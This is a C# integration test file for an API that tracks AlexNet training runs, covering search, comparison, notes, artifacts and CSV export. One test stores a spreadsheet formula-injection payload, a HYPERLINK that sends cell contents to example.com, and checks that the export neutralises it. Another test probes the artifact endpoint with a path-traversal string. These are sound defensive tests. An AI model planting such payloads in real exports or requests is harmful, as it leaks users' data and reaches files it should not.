using System.Net;
using System.Text.Json.Nodes;
using AlexNet.Experiments.Domain.Datasets;
using Microsoft.Extensions.DependencyInjection;

namespace AlexNet.Experiments.Host.Tests;

[CollectionDefinition(ResultsApiTests.TwoRuns.Collection)]
public sealed class TwoRunsCollection : ICollectionFixture<ResultsApiTests.TwoRuns>;

/// <summary>Search, compare, run control and exports over HTTP, on two tiny runs trained once for the collection.</summary>
[Collection(ResultsApiTests.TwoRuns.Collection)]
public sealed class ResultsApiTests(ResultsApiTests.TwoRuns runs)
{
    /// <summary>48 training images in batches of 16, so three batches an epoch, and a step point after batches 2 and 3.</summary>
    public sealed class TwoRuns : IAsyncLifetime
    {
        public const string Collection = "Two trained runs";

        private const string Tiny = """ "batchSize": 16, "model": { "widthMultiplier": 0.125 LRN }, "data": { "imageSize": 72 } """;

        public HostFactory Factory { get; } = new(settings: new Dictionary<string, string> { ["AlexNet:StepMetricsBatches"] = "2" });
        public HttpClient Client { get; private set; } = null!;
        public string DatasetId { get; private set; } = null!;
        public HttpResponseMessage Registration { get; private set; } = null!;

        /// <summary>Two epochs with LRN, learning rate 0.003.</summary>
        public string WithLrn { get; private set; } = null!;

        /// <summary>One epoch without LRN, learning rate 0.01.</summary>
        public string WithoutLrn { get; private set; } = null!;

        public async Task InitializeAsync()
        {
            Client = Factory.CreateClient();
            var source = Path.Combine(Factory.DataDirectory, "sources", "tiny");
            await Factory.Services.GetRequiredService<ISyntheticDatasetGenerator>()
                .GenerateAsync(new SyntheticDatasetSpec(Classes: 3, TrainPerClass: 16, ValidationPerClass: 4, ImageSize: 80, Seed: 3), source, CancellationToken.None);
            (Registration, var dataset) = await Client.PostAsync("/api/datasets", $$"""{ "name": "tiny", "sourcePath": "{{source}}" }""");
            DatasetId = dataset!["id"]!.GetValue<string>();

            WithLrn = await SubmitAsync("with lrn", """{ "epochs": 2, """ + Tiny.Replace("LRN", "") + "}");
            WithoutLrn = await SubmitAsync("no lrn", """{ "epochs": 1, "optimizer": { "learningRate": 0.01 }, """ + Tiny.Replace("LRN", """, "lrn": { "enabled": false }""") + "}");
            foreach (var run in new[] { WithLrn, WithoutLrn })
            {
                (await Client.WaitForRunAsync(run, TimeSpan.FromMinutes(3)))["run"]!["status"]!.GetValue<string>().ShouldBe("Succeeded");
            }
        }

        private async Task<string> SubmitAsync(string name, string hyperparameters)
        {
            var (response, body) = await Client.PostAsync("/api/experiments",
                $$"""{ "name": "{{name}}", "datasetId": "{{DatasetId}}", "preset": "quickstart", "hyperparameters": {{hyperparameters}} }""");
            response.StatusCode.ShouldBe(HttpStatusCode.Accepted, body?.ToJsonString());
            return body!["runId"]!.GetValue<string>();
        }

        public async Task DisposeAsync() => await Factory.DisposeAsync();
    }

    private HttpClient Client => runs.Client;

    private static List<string> Ids(JsonNode list) => list["runs"]!.AsArray().Select(r => r!["id"]!.GetValue<string>()).ToList();

    [Fact]
    public async Task Search_filters_by_hyperparameter_path_and_final_metric_orders_and_pages()
    {
        var all = await Client.GetJsonAsync("/api/runs");
        all["total"]!.GetValue<int>().ShouldBe(2);
        Ids(all).ShouldBe([runs.WithoutLrn, runs.WithLrn]); // newest first

        Ids(await Client.GetJsonAsync("/api/runs?filter=model.lrn.enabled=false")).ShouldBe([runs.WithoutLrn]);
        Ids(await Client.GetJsonAsync("/api/runs?filter=" + Uri.EscapeDataString("optimizer.learningRate>=0.005"))).ShouldBe([runs.WithoutLrn]);
        Ids(await Client.GetJsonAsync("/api/runs?filter=model.lrn.enabled=true&filter=" + Uri.EscapeDataString("validationTop1Error<=1"))).ShouldBe([runs.WithLrn]);
        Ids(await Client.GetJsonAsync("/api/runs?filter=" + Uri.EscapeDataString("validationTop1Error<0"))).ShouldBeEmpty();
        Ids(await Client.GetJsonAsync($"/api/runs?status=Succeeded,Failed&datasetId={runs.DatasetId}")).Count.ShouldBe(2);
        Ids(await Client.GetJsonAsync("/api/runs?status=Queued")).ShouldBeEmpty();
        Ids(await Client.GetJsonAsync("/api/runs?orderBy=epochsCompleted&direction=desc")).ShouldBe([runs.WithLrn, runs.WithoutLrn]);

        var page = await Client.GetJsonAsync("/api/runs?orderBy=createdAt&direction=asc&limit=1&page=2");
        Ids(page).ShouldBe([runs.WithoutLrn]);
        page["total"]!.GetValue<int>().ShouldBe(2);

        var item = all["runs"]![1]!;
        item["experimentName"]!.GetValue<string>().ShouldBe("with lrn");
        item["epochs"]!.GetValue<int>().ShouldBe(2);
        item["metrics"]!["epoch"]!.GetValue<int>().ShouldBe(2);
        item["metrics"]!["evaluationTop1Error"]!.GetValue<double>().ShouldBeInRange(0, 1);
        item.AsObject().ContainsKey("hyperparametersJson").ShouldBeFalse();
    }

    [Theory]
    [InlineData("filter=model.lrn.enabeld=false", "filter[0]", "model.lrn.enabeld")]
    [InlineData("filter=model.lrn.enabled%3E1", "filter[0]", "model.lrn.enabled")]
    [InlineData("filter=optimizer.learningRate=fast", "filter[0]", "fast")]
    [InlineData("filter=model=1", "filter[0]", "model")]
    [InlineData("status=Sleeping", "status[0]", "Sleeping")]
    [InlineData("orderBy=colour", "orderBy", "colour")]
    [InlineData("limit=0", "limit", "")]
    public async Task A_bad_search_gets_400_naming_the_parameter(string query, string field, string named)
    {
        var response = await Client.GetAsync("/api/runs?" + query);
        var problem = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;

        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest, problem.ToJsonString());
        response.Content.Headers.ContentType!.MediaType.ShouldBe("application/problem+json");
        problem["errors"]![field]![0]!.GetValue<string>().ShouldContain(named);
    }

    [Fact]
    public async Task Compare_shows_the_differing_hyperparameters_final_metrics_and_histories()
    {
        var comparison = await Client.GetJsonAsync($"/api/runs/compare?ids={runs.WithLrn},{runs.WithoutLrn.ToUpperInvariant()}");

        var differing = comparison["hyperparameters"]!.AsObject();
        differing.Select(p => p.Key).ShouldBe(["epochs", "model.lrn.enabled", "optimizer.learningRate"], ignoreOrder: true);
        differing["model.lrn.enabled"]!.AsArray().Select(v => v!.GetValue<bool>()).ShouldBe([true, false]);
        comparison["runs"]!.AsArray().Select(r => r!["id"]!.GetValue<string>()).ShouldBe([runs.WithLrn, runs.WithoutLrn]);
        comparison["runs"]!.AsArray().ShouldAllBe(r => r!["metrics"]!["validationTop1Error"] != null);
        comparison["history"]!.AsArray().Select(h => h!["epochs"]!.AsArray().Count).ShouldBe([2, 1]);
    }

    [Theory]
    [InlineData("ids=ONLY-ONE", "ids")]
    [InlineData("ids=00000000-0000-0000-0000-000000000001,not-an-id", "ids[1]")]
    public async Task Compare_rejects_bad_ids(string query, string field)
    {
        var response = await Client.GetAsync("/api/runs/compare?" + query);
        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        JsonNode.Parse(await response.Content.ReadAsStringAsync())!["errors"]!.AsObject().Select(e => e.Key).ShouldContain(field);
    }

    [Fact]
    public async Task Compare_of_an_unknown_run_is_404()
    {
        var response = await Client.GetAsync($"/api/runs/compare?ids={runs.WithLrn},{Guid.NewGuid()}");
        response.StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task The_dataset_location_from_registration_answers_with_the_dataset()
    {
        var location = runs.Registration.Headers.Location!.ToString();
        var dataset = await Client.GetJsonAsync(location);
        dataset["dataset"]!["id"]!.GetValue<string>().ShouldBe(runs.DatasetId);
        (await Client.GetJsonAsync(location.ToUpperInvariant().Replace("/API/DATASETS/", "/api/datasets/")))["dataset"]!["name"]!.GetValue<string>().ShouldBe("tiny");
        (await Client.GetAsync($"/api/datasets/{Guid.NewGuid()}")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task A_finished_run_keeps_its_final_progress_and_shows_no_server_path()
    {
        var response = await Client.GetAsync($"/api/runs/{runs.WithLrn}");
        var text = await response.Content.ReadAsStringAsync();
        var run = JsonNode.Parse(text)!;

        var progress = run["run"]!["progress"]!;
        progress["phase"]!.GetValue<string>().ShouldBe("training");
        progress["epoch"]!.GetValue<int>().ShouldBe(2);
        progress["epochs"]!.GetValue<int>().ShouldBe(2);
        progress["batch"]!.GetValue<int>().ShouldBe(progress["batches"]!.GetValue<int>());
        progress["batches"]!.GetValue<int>().ShouldBe(3); // 48 images, batches of 16
        progress["runningLoss"]!.GetValue<double>().ShouldBeGreaterThan(0);
        progress["imagesPerSecond"]!.GetValue<double>().ShouldBeGreaterThan(0);
        progress["runSecondsLeft"]!.GetValue<double>().ShouldBe(0);

        text.ShouldNotContain(runs.Factory.DataDirectory);
        text.ShouldNotContain("canonicalJson");
        text.ShouldNotContain("hyperparametersJson");
        run["hyperparameters"]!["model"]!["lrn"]!["enabled"]!.GetValue<bool>().ShouldBeTrue();
        run["record"]!["sha256"]!.GetValue<string>().Length.ShouldBe(64);

        // Retention keeps the last and the best epoch by validation top-1 error (the earliest of equals); the rest are deleted.
        var metrics = (await Client.GetJsonAsync($"/api/runs/{runs.WithLrn}/metrics")).AsArray();
        int best = metrics.MinBy(m => m!["validationTop1Error"]!.GetValue<double>())!["epoch"]!.GetValue<int>();
        var artifacts = run["artifacts"]!.AsArray();
        artifacts.Select(a => a!["name"]!.GetValue<string>()).ShouldBe(new[] { $"epoch-{best:D3}.ckpt", "epoch-002.ckpt" }.Distinct(), ignoreOrder: true);
        Directory.GetFiles(Path.Combine(runs.Factory.DataDirectory, "runs", runs.WithLrn)).Select(Path.GetFileName)
            .ShouldBe(artifacts.Select(a => a!["name"]!.GetValue<string>()).SelectMany(n => new[] { n, Path.ChangeExtension(n, ".metrics.json"), Path.ChangeExtension(n, ".steps.json") }), ignoreOrder: true);
        foreach (var artifact in artifacts)
        {
            var download = await Client.GetAsync(artifact!["downloadUrl"]!.GetValue<string>());
            download.StatusCode.ShouldBe(HttpStatusCode.OK);
            var bytes = await download.Content.ReadAsByteArrayAsync();
            bytes.LongLength.ShouldBe(artifact["bytes"]!.GetValue<long>());
            Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(bytes)).ShouldBe(artifact["sha256"]!.GetValue<string>());
        }

        (await Client.GetAsync($"/api/runs/{runs.WithLrn}/artifacts/..%2Fresults.db")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
        (await Client.GetAsync($"/api/runs/{runs.WithLrn}/artifacts/nothing.ckpt")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Metrics_and_search_results_download_as_csv_that_python_reads()
    {
        var metrics = await ReadCsvWithPythonAsync($"/api/runs/{runs.WithLrn}/metrics.csv");
        metrics.Select(r => r["epoch"]).ShouldBe(["1", "2"]);
        var json = (await Client.GetJsonAsync($"/api/runs/{runs.WithLrn}/metrics")).AsArray();
        metrics.Select(r => double.Parse(r["validationTop1Error"], System.Globalization.CultureInfo.InvariantCulture))
            .ShouldBe(json.Select(m => m!["validationTop1Error"]!.GetValue<double>()));

        await Client.PatchAsync($"/api/runs/{runs.WithoutLrn}",
            new StringContent("""{ "note": "no LRN, \"ablation\", 1 epoch\nsecond line" }""", System.Text.Encoding.UTF8, "application/json"));
        var rows = await ReadCsvWithPythonAsync("/api/runs.csv?orderBy=createdAt&direction=asc");
        rows.Select(r => r["id"]).ShouldBe([runs.WithLrn, runs.WithoutLrn]);
        rows[1]["note"].ShouldBe("no LRN, \"ablation\", 1 epoch\nsecond line");
        rows[0]["experimentName"].ShouldBe("with lrn");
        double.Parse(rows[0]["evaluationTop1Error"], System.Globalization.CultureInfo.InvariantCulture).ShouldBeInRange(0, 1);
        (await ReadCsvWithPythonAsync("/api/runs.csv?filter=model.lrn.enabled=false")).Select(r => r["id"]).ShouldBe([runs.WithoutLrn]);
        (await Client.GetAsync("/api/runs.csv?filter=nope=1")).StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await Client.GetAsync($"/api/runs/{Guid.NewGuid()}/metrics.csv")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    /// <summary>Issue 25: tags and notes that a spreadsheet would run as formulas export as text; the metrics stay numbers.</summary>
    [Fact]
    public async Task Text_cells_that_begin_like_a_formula_export_inert_and_metrics_stay_numbers()
    {
        const string note = "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")";
        var patch = await Client.PatchAsync($"/api/runs/{runs.WithoutLrn}", new StringContent(
            System.Text.Json.JsonSerializer.Serialize(new { tags = new[] { "=1+1", "@SUM(A1)" }, note }), System.Text.Encoding.UTF8, "application/json"));
        patch.StatusCode.ShouldBe(HttpStatusCode.OK);

        var row = (await ReadCsvWithPythonAsync("/api/runs.csv")).Single(r => r["id"] == runs.WithoutLrn);

        row["tags"].ShouldBe("'=1+1;@SUM(A1)");
        row["note"].ShouldBe("'" + note);
        row["experimentName"].ShouldBe("no lrn");
        row["status"].ShouldBe("Succeeded");
        foreach (var metric in new[] { "trainLoss", "validationTop1Error", "learningRate", "evaluationTop1Error" })
        {
            double.TryParse(row[metric], System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _).ShouldBeTrue(metric);
        }

        (await Client.GetJsonAsync($"/api/runs/{runs.WithoutLrn}"))["run"]!["note"]!.GetValue<string>().ShouldBe(note, "stored as written");
    }

    [Fact]
    public async Task Tags_and_notes_are_set_with_patch_and_searchable()
    {
        var response = await Client.PatchAsync($"/api/runs/{runs.WithLrn.ToUpperInvariant()}",
            new StringContent("""{ "tags": ["baseline", "paper"], "note": "Reference run with LRN" }""", System.Text.Encoding.UTF8, "application/json"));
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        var run = JsonNode.Parse(await response.Content.ReadAsStringAsync())!["run"]!;
        run["tags"]!.AsArray().Select(t => t!.GetValue<string>()).ShouldBe(["baseline", "paper"]);
        run["note"]!.GetValue<string>().ShouldBe("Reference run with LRN");

        Ids(await Client.GetJsonAsync("/api/runs?tag=baseline")).ShouldBe([runs.WithLrn]);
        Ids(await Client.GetJsonAsync("/api/runs?tag=baseline&tag=other")).ShouldBeEmpty();
        Ids(await Client.GetJsonAsync("/api/runs?q=reference")).ShouldBe([runs.WithLrn]);

        var bad = await Client.PatchAsync($"/api/runs/{runs.WithLrn}", new StringContent("""{ "tags": [""] }""", System.Text.Encoding.UTF8, "application/json"));
        bad.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        var missing = await Client.PatchAsync($"/api/runs/{Guid.NewGuid()}", new StringContent("""{ "note": "x" }""", System.Text.Encoding.UTF8, "application/json"));
        missing.StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task The_openapi_document_declares_the_error_responses()
    {
        var paths = (await Client.GetJsonAsync("/openapi/v1.json"))["paths"]!;
        string[] Codes(string path, string method) => paths[path]![method]!["responses"]!.AsObject().Select(r => r.Key).ToArray();

        Codes("/api/runs", "get").ShouldContain("400");
        Codes("/api/runs.csv", "get").ShouldContain("400");
        Codes("/api/runs/compare", "get").ShouldBe(["200", "400", "404"], ignoreOrder: true);
        Codes("/api/runs/{runId}/cancel", "post").ShouldBe(["200", "404", "409"], ignoreOrder: true);
        Codes("/api/runs/{runId}", "delete").ShouldBe(["204", "404", "409"], ignoreOrder: true);
        Codes("/api/runs/{runId}", "patch").ShouldBe(["200", "400", "404"], ignoreOrder: true);
        Codes("/api/experiments/{experimentId}", "delete").ShouldBe(["204", "404", "409"], ignoreOrder: true);
        Codes("/api/datasets/{datasetId}", "delete").ShouldBe(["204", "404", "409"], ignoreOrder: true);
        Codes("/api/datasets/{datasetId}", "get").ShouldBe(["200", "404"], ignoreOrder: true);
        Codes("/api/runs/{runId}/artifacts/{name}", "get").ShouldBe(["200", "404"], ignoreOrder: true);
        Codes("/api/runs/{runId}/metrics.csv", "get").ShouldBe(["200", "404"], ignoreOrder: true);
        Codes("/api/runs/{runId}/steps", "get").ShouldBe(["200", "404"], ignoreOrder: true);
        Codes("/api/runs/{runId}/steps.csv", "get").ShouldBe(["200", "404"], ignoreOrder: true);
    }

    private Task<List<Dictionary<string, string>>> ReadCsvWithPythonAsync(string url) => Client.ReadCsvWithPythonAsync(url, runs.Factory.DataDirectory);
}
